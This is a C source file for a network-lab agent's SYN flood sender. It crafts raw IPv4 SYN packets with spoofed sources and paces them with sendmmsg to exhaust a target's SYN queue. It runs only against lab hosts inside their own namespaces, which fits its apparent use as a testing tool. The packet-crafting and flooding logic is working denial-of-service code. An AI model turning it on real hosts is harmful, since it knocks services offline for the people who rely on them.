/* flood: the SYN flood sender (PROTO_OP_FLOOD).
 *
 * A raw IPv4 socket (IPPROTO_RAW: we write the IP header ourselves) sends SYNs to one lab
 * host from spoofed sources inside the lab's black-hole range.  Every lab host routes that
 * range into a sink device, so the victim's SYN+ACKs go nowhere: without SYN cookies its SYN
 * queue fills with request sockets that nobody will ever complete.
 *
 * Pacing: an ev_timer ticks every millisecond; each tick sends what is due by then (rate x
 * elapsed, minus what went out) in sendmmsg batches, at most FLOOD_TICK_MAX packets before
 * it yields, so the control channel and the agent's connections keep the loop.  When it is
 * behind, an ev_idle watcher sends the next round as soon as nothing else is pending (a
 * timer cannot: libev's epoll backend sleeps at least 1 ms).  The answer goes out when the flood is over, with the
 * number of SYNs sent (COUNT), the time taken and a sentence for the step log.
 *
 * Before a single packet, the request is refused unless: the target is a unicast IPv4
 * address outside the black-hole range that this namespace has a route to (a lab host's
 * namespace routes only the lab's subnets, so anything outside the lab is unreachable); the
 * sources lie inside the range labctl passed (the lab's black hole, at least a /8); and the
 * agent is in a namespace of its own (not its parent's, not the initial one).  labctl checks the target against the lab's
 * hosts before it asks; these checks stand on their own in case it did not.  IPv4 only: an
 * IPv6 flood is refused (EAFNOSUPPORT).
 */
#include "agent.h"

#include <arpa/inet.h>
#include <errno.h>
#include <math.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#define FLOOD_BATCH 256           /* packets per sendmmsg */
#define FLOOD_TICK_S 0.001
#define FLOOD_TICK_MAX 4096       /* packets per tick before the loop gets a turn */
#define FLOOD_MAX_NS (3600LL * 1000000000)
#define FLOOD_GRACE_NS 500000000LL  /* past the duration, a full socket may drain this long */
#define FLOOD_MIN_RANGE_PREFIX 8  /* a wider "black hole" would let us spoof anything */
#define SYN_LEN 60                /* IPv4 header 20, TCP header 20, options 20 */

struct flood {
	struct flood *next;
	struct agent *a;
	uint32_t tag;
	int fd;
	ev_timer timer;
	ev_idle idle;                     /* active while behind the schedule */
	struct sockaddr_in dst;
	uint32_t src_base, src_n, src_i;  /* sources: src_base + (src_i % src_n), host order */
	double rate;                      /* SYNs per second */
	int64_t total;                    /* SYNs the whole flood sends at that rate */
	int64_t t0_ns, duration_ns, sent;
	uint64_t rng;
	char desc[96];                    /* "to 10.0.0.2:80 from 198.18.0.0/24" */
	uint8_t pkt[FLOOD_BATCH][SYN_LEN];
	struct iovec iov[FLOOD_BATCH];
	struct mmsghdr mm[FLOOD_BATCH];
};

/* The list of running floods lives in struct agent (a->floods). */

static uint64_t rng_next(uint64_t *s)
{
	/* xorshift64*: plenty for ports and sequence numbers */
	uint64_t x = *s;
	x ^= x >> 12;
	x ^= x << 25;
	x ^= x >> 27;
	*s = x;
	return x * 0x2545F4914F6CDD1DULL;
}

static uint16_t csum_fold(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

static uint32_t csum_add(uint32_t sum, const uint8_t *p, size_t n)
{
	for (size_t i = 0; i + 1 < n; i += 2)
		sum += (uint32_t)p[i] << 8 | p[i + 1];
	if (n & 1)
		sum += (uint32_t)p[n - 1] << 8;
	return sum;
}

static void put16(uint8_t *p, uint16_t v)
{
	p[0] = (uint8_t)(v >> 8);
	p[1] = (uint8_t)v;
}

static void put32(uint8_t *p, uint32_t v)
{
	put16(p, (uint16_t)(v >> 16));
	put16(p + 2, (uint16_t)v);
}

/* The fixed part of every SYN: what a Linux client's SYN carries (MSS, SACK permitted,
 * timestamps, window scale), so the victim treats it as an ordinary connection attempt and
 * SYN cookies have options to encode. */
static void syn_template(uint8_t *p, uint32_t daddr_be, uint16_t dport)
{
	memset(p, 0, SYN_LEN);
	p[0] = 0x45;                      /* IPv4, 5-word header */
	put16(p + 2, SYN_LEN);            /* the kernel fills tot_len, id and the checksum too */
	put16(p + 6, 0x4000);             /* DF */
	p[8] = 64;                        /* TTL */
	p[9] = IPPROTO_TCP;
	memcpy(p + 16, &daddr_be, 4);
	uint8_t *t = p + 20;
	put16(t + 2, dport);
	t[12] = 10 << 4;                  /* data offset: 40 bytes */
	t[13] = 0x02;                     /* SYN */
	put16(t + 14, 64240);             /* window */
	uint8_t *o = t + 20;
	o[0] = 2; o[1] = 4; put16(o + 2, 1460);   /* MSS */
	o[4] = 4; o[5] = 2;                       /* SACK permitted */
	o[6] = 8; o[7] = 10;                      /* timestamps: TSval at o+8, TSecr 0 */
	o[16] = 1;                                /* NOP */
	o[17] = 3; o[18] = 3; o[19] = 7;          /* window scale 7 */
}

/* Per packet: a source from the range, a random port, sequence number and TSval. */
static void syn_fill(struct flood *f, uint8_t *p)
{
	uint32_t saddr = htonl(f->src_base + f->src_i++ % f->src_n);
	uint64_t r = rng_next(&f->rng);
	uint8_t *t = p + 20;
	memcpy(p + 12, &saddr, 4);
	put16(t, (uint16_t)(1024 + (r & 0xffff) % (65536 - 1024)));
	put32(t + 4, (uint32_t)(r >> 32));
	put32(t + 28, (uint32_t)(r >> 16));
	t[16] = t[17] = 0;
	/* pseudo header: source, destination, protocol, TCP length */
	uint32_t sum = csum_add(0, p + 12, 8);
	sum += IPPROTO_TCP + (SYN_LEN - 20);
	sum = csum_add(sum, t, SYN_LEN - 20);
	put16(t + 16, csum_fold(sum));
}

static void flood_unlink(struct flood *f)
{
	for (struct flood **pp = &f->a->floods; *pp; pp = &(*pp)->next)
		if (*pp == f) {
			*pp = f->next;
			break;
		}
}

static void flood_free(struct flood *f)
{
	ev_timer_stop(f->a->loop, &f->timer);
	ev_idle_stop(f->a->loop, &f->idle);
	if (f->fd >= 0)
		close(f->fd);
	free(f);
}

/* Answer the request and go.  err 0: ok with the count. */
static void flood_finish(struct flood *f, int err, const char *what)
{
	struct agent *a = f->a;
	int64_t ns = mono_ns() - f->t0_ns;
	double secs = (double)ns / 1e9;
	if (err) {
		agent_reply_err(a, f->tag, err, "flood %s: %s: %s (after %lld SYNs)", f->desc, what,
				strerror(err), (long long)f->sent);
	} else {
		struct proto_msg m;
		proto_msg_init(&m, PROTO_OP_OK, f->tag);
		m.count = f->sent;
		m.elapsed_ns = ns;
		m.have |= PA_BIT(PA_COUNT) | PA_BIT(PA_ELAPSED_NS) | PA_BIT(PA_MSG);
		snprintf(m.msg, sizeof(m.msg), "sent %lld SYNs in %.3f s (%.0f/s) %s",
			 (long long)f->sent, secs, secs > 0 ? (double)f->sent / secs : 0.0, f->desc);
		agent_send(a, &m);
	}
	flood_unlink(f);
	flood_free(f);
}

/* Send up to n SYNs; returns how many went out, or -errno on a real failure.  A full
 * socket buffer (EAGAIN, ENOBUFS) just ends this round. */
static int64_t flood_send(struct flood *f, int64_t n)
{
	int64_t done = 0;
	while (done < n) {
		unsigned int k = (unsigned int)(n - done < FLOOD_BATCH ? n - done : FLOOD_BATCH);
		for (unsigned int i = 0; i < k; i++)
			syn_fill(f, f->pkt[i]);
		int w = sendmmsg(f->fd, f->mm, k, MSG_DONTWAIT);
		if (w < 0) {
			if (errno == EINTR)
				continue;
			if (errno == EAGAIN || errno == ENOBUFS)
				break;
			return -errno;
		}
		/* unsent ones used sources and ports: harmless, the next batch takes new ones */
		done += w;
		if ((unsigned int)w < k)
			break;
	}
	return done;
}

/* One round: send what is due, finish when the flood is over. */
static void flood_step(struct flood *f)
{
	int64_t el = mono_ns() - f->t0_ns;
	if (el > f->duration_ns)
		el = f->duration_ns;
	/* packet k leaves at k / rate: by el, floor(rate x el) + 1 of them */
	int64_t due = (int64_t)floor(f->rate * (double)el / 1e9) + 1;
	if (due > f->total)
		due = f->total;
	int64_t want = due - f->sent, n = 0;
	if (want > FLOOD_TICK_MAX)
		want = FLOOD_TICK_MAX;
	if (want > 0) {
		n = flood_send(f, want);
		if (n < 0) {
			flood_finish(f, (int)-n, "sendmmsg");
			return;
		}
		f->sent += n;
	}
	/* Over when every SYN of the flood is out.  A tick that comes late (a busy machine)
	 * sends what is due then, so a flood past its duration still sends the rest; only a
	 * socket that stays full gives up, FLOOD_GRACE_NS after the end, with the short count. */
	if (f->sent >= f->total || mono_ns() - f->t0_ns >= f->duration_ns + FLOOD_GRACE_NS) {
		flood_finish(f, 0, NULL);
		return;
	}
	/* behind (the round's cap, not a full buffer): go again as soon as the loop is idle */
	if (want == FLOOD_TICK_MAX && n == want) {
		if (!ev_is_active(&f->idle))
			ev_idle_start(f->a->loop, &f->idle);
	} else if (ev_is_active(&f->idle)) {
		ev_idle_stop(f->a->loop, &f->idle);
	}
}

static void flood_tick(struct ev_loop *loop, ev_timer *w, int revents)
{
	(void)loop; (void)revents;
	flood_step(container_of(w, struct flood, timer));
}

static void flood_idle(struct ev_loop *loop, ev_idle *w, int revents)
{
	(void)loop; (void)revents;
	flood_step(container_of(w, struct flood, idle));
}

static uint32_t mask_of(uint32_t prefix)
{
	return prefix == 0 ? 0 : 0xffffffffu << (32 - prefix);
}

/* Whether this agent sits in a namespace of its own: not the one of the process that started
 * it (labctl, which stays outside its labs), and not the initial one when we may look at it
 * (pid 1 may be out of our reach, e.g. in a container).  0 when it does, else an errno and
 * the reason. */
static int own_netns(char *why, size_t len)
{
	struct stat self, other;
	char path[64];
	if (stat("/proc/self/ns/net", &self) < 0) {
		snprintf(why, len, "cannot tell whether this is a lab namespace (/proc/self/ns/net: "
			 "%s)", strerror(errno));
		return EPERM;
	}
	snprintf(path, sizeof(path), "/proc/%d/ns/net", (int)getppid());
	if (stat(path, &other) < 0) {
		snprintf(why, len, "cannot tell whether this is a lab namespace (%s: %s)", path,
			 strerror(errno));
		return EPERM;
	}
	if (self.st_dev == other.st_dev && self.st_ino == other.st_ino) {
		snprintf(why, len, "refusing to flood from the namespace of the process that "
			 "started the agent: floods stay inside a lab's own namespaces");
		return EPERM;
	}
	if (stat("/proc/1/ns/net", &other) == 0 && self.st_dev == other.st_dev &&
	    self.st_ino == other.st_ino) {
		snprintf(why, len, "refusing to flood from the initial network namespace: floods "
			 "stay inside a lab");
		return EPERM;
	}
	return 0;
}

/* 0, or an errno with the reason in why. */
static int flood_check(const struct proto_msg *m, char *why, size_t len)
{
	const struct sockaddr_in *t = (const struct sockaddr_in *)&m->addr;
	const struct sockaddr_in *r = (const struct sockaddr_in *)&m->range;
	const struct sockaddr_in *s = (const struct sockaddr_in *)&m->from;
	char ts[INET_ADDRSTRLEN], rs[INET_ADDRSTRLEN], ss[INET_ADDRSTRLEN];

	if (m->addr.ss_family != AF_INET || m->range.ss_family != AF_INET ||
	    ((m->have & PA_BIT(PA_FROM)) && m->from.ss_family != AF_INET)) {
		snprintf(why, len, "IPv4 only (target, black-hole range and sources)");
		return EAFNOSUPPORT;
	}
	inet_ntop(AF_INET, &t->sin_addr, ts, sizeof(ts));
	inet_ntop(AF_INET, &r->sin_addr, rs, sizeof(rs));
	uint32_t dst = ntohl(t->sin_addr.s_addr), rnet = ntohl(r->sin_addr.s_addr);
	uint32_t rmask = mask_of(m->range_prefix);
	if (m->rate_milli == 0 || m->duration_ns <= 0 || m->duration_ns > FLOOD_MAX_NS) {
		snprintf(why, len, "rate must be above 0 and the duration between 0 and 1 h");
		return EINVAL;
	}
	if (t->sin_port == 0) {
		snprintf(why, len, "target %s has no port", ts);
		return EINVAL;
	}
	if (m->range_prefix < FLOOD_MIN_RANGE_PREFIX) {
		snprintf(why, len, "black-hole range %s/%u is wider than a /%d: refusing to spoof "
			 "that much", rs, m->range_prefix, FLOOD_MIN_RANGE_PREFIX);
		return EPERM;
	}
	if ((rnet & ~rmask) != 0) {
		snprintf(why, len, "black-hole range %s/%u has host bits set", rs, m->range_prefix);
		return EINVAL;
	}
	if (m->have & PA_BIT(PA_FROM)) {
		uint32_t src = ntohl(s->sin_addr.s_addr);
		inet_ntop(AF_INET, &s->sin_addr, ss, sizeof(ss));
		if (!(m->have & PA_BIT(PA_FROM_PREFIX)) || m->from_prefix < m->range_prefix ||
		    (src & rmask) != rnet) {
			snprintf(why, len, "source range %s/%u is not inside the lab's black hole "
				 "%s/%u", ss, (m->have & PA_BIT(PA_FROM_PREFIX)) ? m->from_prefix : 32,
				 rs, m->range_prefix);
			return EPERM;
		}
	}
	if ((dst & rmask) == rnet) {
		snprintf(why, len, "target %s lies inside the black-hole range %s/%u", ts, rs,
			 m->range_prefix);
		return EINVAL;
	}
	if ((dst >> 24) == 0 || (dst >> 24) == 127 || (dst >> 28) >= 14) {
		snprintf(why, len, "target %s is not a unicast host address", ts);
		return EINVAL;
	}
	int err = own_netns(why, len);
	if (err)
		return err;
	/* A lab namespace routes only the lab's subnets: a target outside has no route. */
	int u = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (u < 0) {
		snprintf(why, len, "socket: %s", strerror(errno));
		return errno;
	}
	if (connect(u, (const struct sockaddr *)t, sizeof(*t)) < 0) {
		err = errno;
		close(u);
		snprintf(why, len, "no route to %s in this namespace (%s): not a lab host", ts,
			 strerror(err));
		return err == ENETUNREACH || err == EHOSTUNREACH ? EHOSTUNREACH : err;
	}
	close(u);
	return 0;
}

void flood_op(struct agent *a, const struct proto_msg *m)
{
	char why[PROTO_TEXT_MAX - 16];
	int err = flood_check(m, why, sizeof(why));
	if (err) {
		agent_reply_err(a, m->tag, err, "flood: %s", why);
		return;
	}
	struct flood *f = calloc(1, sizeof(*f));
	if (!f) {
		agent_reply_err(a, m->tag, ENOMEM, "flood: out of memory");
		return;
	}
	f->a = a;
	f->tag = m->tag;
	f->dst = *(const struct sockaddr_in *)&m->addr;
	f->rate = (double)m->rate_milli / 1000.0;
	f->duration_ns = m->duration_ns;
	/* packets leave at k / rate for k = 0, 1, ... while k / rate < duration */
	f->total = (int64_t)ceil(f->rate * (double)m->duration_ns / 1e9 - 1e-9);
	if (f->total < 1)
		f->total = 1;
	const struct sockaddr_storage *src = (m->have & PA_BIT(PA_FROM)) ? &m->from : &m->range;
	uint32_t prefix = (m->have & PA_BIT(PA_FROM)) ? m->from_prefix : m->range_prefix;
	uint32_t net = ntohl(((const struct sockaddr_in *)src)->sin_addr.s_addr) & mask_of(prefix);
	uint64_t size = 1ull << (32 - prefix);
	/* skip a subnet's all-zeros and all-ones hosts where there are others */
	f->src_base = size >= 4 ? net + 1 : net;
	f->src_n = (uint32_t)(size >= 4 ? size - 2 : size);
	char ds[INET_ADDRSTRLEN], ss[INET_ADDRSTRLEN];
	uint32_t netbe = htonl(net);
	inet_ntop(AF_INET, &f->dst.sin_addr, ds, sizeof(ds));
	inet_ntop(AF_INET, &netbe, ss, sizeof(ss));
	snprintf(f->desc, sizeof(f->desc), "to %s:%u from %s/%u", ds, ntohs(f->dst.sin_port), ss,
		 prefix);
	if (getrandom(&f->rng, sizeof(f->rng), 0) != sizeof(f->rng) || !f->rng)
		f->rng = (uint64_t)mono_ns() | 1;

	f->fd = socket(AF_INET, SOCK_RAW | SOCK_NONBLOCK | SOCK_CLOEXEC, IPPROTO_RAW);
	if (f->fd < 0) {
		err = errno;
		agent_reply_err(a, m->tag, err, "flood %s: raw socket: %s%s", f->desc, strerror(err),
				err == EPERM ? " (needs CAP_NET_RAW)" : "");
		free(f);
		return;
	}
	int sndbuf = 4 << 20;
	if (setsockopt(f->fd, SOL_SOCKET, SO_SNDBUFFORCE, &sndbuf, sizeof(sndbuf)) < 0)
		setsockopt(f->fd, SOL_SOCKET, SO_SNDBUF, &sndbuf, sizeof(sndbuf));
	for (int i = 0; i < FLOOD_BATCH; i++) {
		syn_template(f->pkt[i], f->dst.sin_addr.s_addr, ntohs(f->dst.sin_port));
		f->iov[i].iov_base = f->pkt[i];
		f->iov[i].iov_len = SYN_LEN;
		f->mm[i].msg_hdr.msg_name = &f->dst;
		f->mm[i].msg_hdr.msg_namelen = sizeof(f->dst);
		f->mm[i].msg_hdr.msg_iov = &f->iov[i];
		f->mm[i].msg_hdr.msg_iovlen = 1;
	}
	f->next = a->floods;
	a->floods = f;
	f->t0_ns = mono_ns();
	ev_timer_init(&f->timer, flood_tick, 0, FLOOD_TICK_S);
	ev_idle_init(&f->idle, flood_idle);
	ev_timer_start(a->loop, &f->timer);
}

void flood_free_all(struct agent *a)
{
	while (a->floods) {
		struct flood *f = a->floods;
		a->floods = f->next;
		flood_free(f);
	}
}
